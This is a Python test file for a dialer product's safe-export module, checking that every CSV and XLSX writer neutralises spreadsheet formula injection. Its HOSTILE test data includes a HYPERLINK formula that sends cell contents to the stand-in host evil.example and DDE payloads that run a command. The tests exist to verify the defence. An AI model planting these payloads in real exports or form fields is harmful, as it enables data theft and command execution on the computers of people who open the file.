"""Safe exports: no cell the product writes, in CSV or XLSX, runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import asyncpg
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from dialer.safe_export import (
    column_letter,
    csv_line,
    csv_text,
    csv_writer,
    is_formula_like,
    neutralise,
    write_xlsx,
    xlsx_bytes,
)
from dnc.numbers import normalise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote_in_csv(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "0987654321", "84987654321", "a=b", "x+1", "", "2026-12-06"])
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert not is_formula_like(text)
    assert neutralise(text) == text


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert neutralise(-5) == -5
    assert neutralise(2.5) == 2.5
    assert neutralise(True) is True
    assert neutralise(None) == ""
    assert neutralise(dt.date(2026, 12, 6)) == "2026-12-06"


def test_an_e164_number_is_quoted_in_csv_and_the_dnc_import_reads_it_back_as_the_same_number() -> None:
    """Excel evaluates ``+84987654321`` (shown as 84987654321), so it is quoted like any formula."""
    line = csv_line(["+84987654321", "Lan"])
    assert line == "'+84987654321,Lan"
    cell = next(csv.reader(io.StringIO(line)))[0]
    assert normalise(cell) == "+84987654321"
    from campaigns.numbers import PhoneNormaliser  # and so does a call-list import

    assert PhoneNormaliser("FR").normalise(cell)[0] == "+84987654321"


def test_csv_writer_neutralises_every_cell_of_every_row() -> None:
    out = io.StringIO()
    w = csv_writer(out, lineterminator="\n")
    w.writerow(["number", "note"])
    w.writerows([["+33612345678", "=1+1"], ["0612345678", "@x"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["number", "note"], ["'+33612345678", "'=1+1"], ["0612345678", "'@x"]]
    assert csv_text([["a"], ["-1"]]) == "a\r\n'-1\r\n"


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=5), max_size=5))
def test_no_csv_cell_ever_starts_like_a_formula(rows: list[list[object]]) -> None:
    text = csv_text(rows)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not is_formula_like(cell) or cell.lstrip("-").isdigit(), cell


def _read_xlsx(data: bytes) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_index(0).to_python()


def test_xlsx_writes_text_as_text_never_a_formula_and_marks_formula_like_text_with_the_quote_prefix() -> None:
    rows = [["number", "name", "note", "calls"], ["+84987654321", "Nguyễn Văn An", HOSTILE[0], 3]]
    data = xlsx_bytes(rows, sheet="Leads")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        styles = zf.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert 'quotePrefix="1"' in styles
    assert sheet.count(' s="1"') == 2  # the number and the hyperlink: shown as written, kept as text
    read = _read_xlsx(data)
    assert read[0] == ["number", "name", "note", "calls"]
    assert read[1][:3] == ["+84987654321", "Nguyễn Văn An", HOSTILE[0]]
    assert read[1][3] == 3


def test_xlsx_keeps_control_characters_and_markup_as_text(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    tricky = ["a<b>&c", "bell\x07", "_x0041_", " padded ", "line\nbreak", 12345678901234567890]
    write_xlsx(path, {"a/b[c]": [tricky], "a/b[c] ": [["second"]]})
    book = CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == ["a_b_c_", "a_b_c_ (2)"]
    got = book.get_sheet_by_index(0).to_python()[0]
    assert got == ["a<b>&c", "bell\x07", "_x0041_", " padded ", "line\nbreak", "12345678901234567890"]


def test_column_letters() -> None:
    assert [column_letter(i) for i in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]


# --- every writer of the product goes through this module ----------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
PRODUCT = ("dialer", "pacing", "campaigns", "dnc", "sms", "agents_ws", "admin_ui", "simulations")
WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|openpyxl|xlsxwriter|\.to_csv\(|\.to_excel\(")
# Not a file for a person: the cells of a rejected row put back into one line, which the rejects report
# then writes as one (neutralised) cell.
ALLOWED = {("campaigns/readers.py", "csv.writer(out, delimiter=delimiter or \",\", lineterminator=\"\")")}


def test_no_csv_or_xlsx_writer_exists_outside_the_safe_export_module() -> None:
    found = []
    for package in PRODUCT:
        for path in sorted((ROOT / package).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if rel == "dialer/safe_export.py":
                continue
            for line in path.read_text(encoding="utf-8").splitlines():
                if WRITERS.search(line) and not any(rel == f and snippet in line for f, snippet in ALLOWED):
                    found.append(f"{rel}: {line.strip()}")
    assert not found, "write CSV/XLSX with dialer.safe_export instead:\n" + "\n".join(found)


HOSTILE_CELL = "=HYPERLINK(\"http://evil.example/\",\"x\")"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


async def test_the_rejects_report_neutralises_a_hostile_row(db_pool: asyncpg.Pool) -> None:
    from campaigns import jobs as list_jobs
    from campaigns import repository as campaigns_repo
    from campaigns.model import Campaign

    camp = await campaigns_repo.create_campaign(db_pool, campaign=Campaign(
        id=0, name="Hostile", trunk_template="PJSIP/{number}@c"))
    async with db_pool.acquire() as conn:
        lst = await campaigns_repo.create_list(conn, campaign_id=camp.id, name="x", source_filename="x.csv")
        await campaigns_repo.store_rejects(conn, list_id=lst.id, rejects=[
            (2, "invalid", "a formula is not a phone number", HOSTILE_CELL), (3, "invalid", "-1", "@SUM(A1)")])
        text = "".join([piece async for piece in list_jobs.rejects_csv(conn, list_id=lst.id)])
    rows = _cells(text)
    assert rows[1][3] == "'" + HOSTILE_CELL and rows[2][2:] == ["'-1", "'@SUM(A1)"]


async def test_the_dnc_api_export_neutralises_hostile_cells(api_client) -> None:  # type: ignore[no-untyped-def]
    from dialer.users import Role

    async with api_client(Role.COMPLIANCE, "olga") as client:
        added = await client.post("/api/dnc/entries", json={"number": "+33612345678", "reason": HOSTILE_CELL})
        assert added.status_code == 201, added.text
        export = await client.get("/api/dnc/export", params={"list": "internal"})
    row = _cells(export.text)[1]
    assert row[0] == "'+33612345678" and row[3] == "'" + HOSTILE_CELL


async def test_the_report_csvs_neutralise_a_hostile_disposition_and_agent_name(
    browser_client, make_user, services  # type: ignore[no-untyped-def]
) -> None:
    from campaigns import repository as campaigns_repo
    from campaigns.model import Campaign
    from dialer.users import Role

    camp = await campaigns_repo.create_campaign(services.pool, campaign=Campaign(
        id=0, name="Reports", trunk_template="PJSIP/{number}@c"))
    agent = await make_user(Role.AGENT, "evil", display_name="@evil")
    at = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=10)
    await services.pool.execute(
        "INSERT INTO call_records (campaign_id, agent_id, engine_id, leg_id, direction, phone_e164, originated_at,"
        " answered_at, ready_at, connected_at, ended_at, wrap_end_at, outcome, disposition)"
        " VALUES ($1, $2, 'e', 'leg-1', 'outbound', '+33612345678', $3, $3, $3, $3, $4, $4, 'handled', $5)",
        camp.id, agent.id, at, at + dt.timedelta(seconds=60), "=cmd|' /C calc'!A0")
    lead = await make_user(Role.TEAM_LEAD)
    form = (await browser_client.get("/login")).text
    token = form.split('name="csrf_token" value="')[1].split('"')[0]
    await browser_client.post("/login", data={"username": lead.username, "password": "correct horse battery",
                                              "next": "/", "csrf_token": token})
    dispositions = await browser_client.get(f"/reports/dispositions.csv?campaign={camp.id}&days=1")
    agents = await browser_client.get(f"/reports/agents.csv?campaign={camp.id}&days=1")
    assert dispositions.status_code == agents.status_code == 200
    assert ["'=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "True", "False", "1", "60"] in _cells(dispositions.text)
    assert _cells(agents.text)[1][0] == "'@evil"


def test_the_simulation_calls_csv_neutralises_a_hostile_scenario_name(tmp_path: Path) -> None:
    from simulations.campaign_sim.compare import write_csv
    from simulations.campaign_sim.records import CallRecord, SimResult

    call = CallRecord(call_id=1, direction="outbound", placed_s=0.0, outcome="human", ring_s=5.0, amd_result="",
                      presented_s=5.0, connected_s=5.5, agent_id=1, abandoned=False, amd_hangup=False,
                      waited_s=0.5, talk_s=-1.0, wrap_s=10.0, ended_s=30.0)
    result = SimResult(scenario="=1+1", pacer="+predictive", seed=1, duration_s=1.0, calls=(call,), shifts=(),
                       decisions=0, wall_s=0.0)
    path = tmp_path / "calls.csv"
    write_csv([result], path)
    row = _cells(path.read_text())[1]
    assert row[:4] == ["'=1+1", "'+predictive", "1", "1"]
    assert row[3 + 12] == "-1.0"  # a number stays a number
